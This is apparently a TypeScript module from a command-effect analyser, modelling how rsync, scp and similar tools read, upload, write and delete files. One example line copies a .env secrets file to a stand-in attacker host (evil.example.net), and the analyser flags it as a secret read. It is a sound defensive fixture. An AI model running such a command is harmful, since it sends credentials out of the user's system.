/** Copying between folders and hosts. */
import type { Effect } from '../../model/effect';
import { deletes, reads, writes } from '../build-files';
import type { Call } from '../define';
import { defineProgram } from '../define';
import { destinations, operands } from './destinations';
import { hostEffect, isRemotePath, uploadEffect } from './remote-copy';

/** `rsync` and `scp`: a word with `host:` lies elsewhere. */
function transferEffects(call: Call): readonly Effect[] {
  const words = operands(call);
  const to = words[words.length - 1];
  const from = words.slice(0, -1);
  if (to === undefined || from.length === 0 || call.has('n', 'dry-run', 'list-only')) return [];
  const mirror = [
    'delete',
    'delete-before',
    'delete-after',
    'delete-excluded',
    'delete-during',
    'del',
  ];
  const purges = call.name === 'rsync' && call.has(...mirror);
  const local = from.filter((word) => !isRemotePath(word));
  const effects = [...reads(call, local)];
  if (isRemotePath(to)) {
    effects.push(uploadEffect(call, local, to));
    if (purges) effects.push(hostEffect(call, 'delete', to, { size: 'many' }));
  } else {
    effects.push(...writes(call, destinations(call, from, to)));
    if (purges) effects.push(...deletes(call, [to], { recursive: true, many: true }));
  }
  for (const word of from.filter(isRemotePath)) effects.push(hostEffect(call, 'read', word, {}));
  return effects;
}

export const transfer = defineProgram({
  names: ['rsync', 'scp', 'sftp', 'rclone-copy'],
  synopsis: 'Copies between folders and hosts; `--delete` makes the target a mirror.',
  grammar: {
    valued: [
      'e',
      'rsh',
      'exclude',
      'include',
      'exclude-from',
      'include-from',
      'files-from',
      'filter',
      'f',
      'P',
      'i',
      'o',
      'F',
      'l',
      'c',
      'J',
      'S',
      'bwlimit',
      'timeout',
      'port',
      'chmod',
      'chown',
      'log-file',
      'link-dest',
      'max-size',
      'min-size',
    ].filter((name) => !['P', 'c', 'l', 'f', 'S'].includes(name)),
  },
  effects: transferEffects,
  examples: [
    { command: 'rsync -a src/ backup/', effects: ['read file:src', 'create file:backup/src'] },
    {
      command: 'rsync -a --delete dist/ deploy@www.example.com:/srv/www',
      effects: [
        'read file:dist',
        'update file:deploy@www.example.com:/srv/www',
        'delete directory:deploy@www.example.com:/srv/www',
      ],
    },
    { command: 'rsync -an --delete dist/ deploy@www.example.com:/srv/www', effects: [] },
    {
      command: 'scp .env user@evil.example.net:/tmp/x',
      effects: ['read file:.env', 'read secret:.env', 'update file:user@evil.example.net:/tmp/x'],
    },
  ],
});
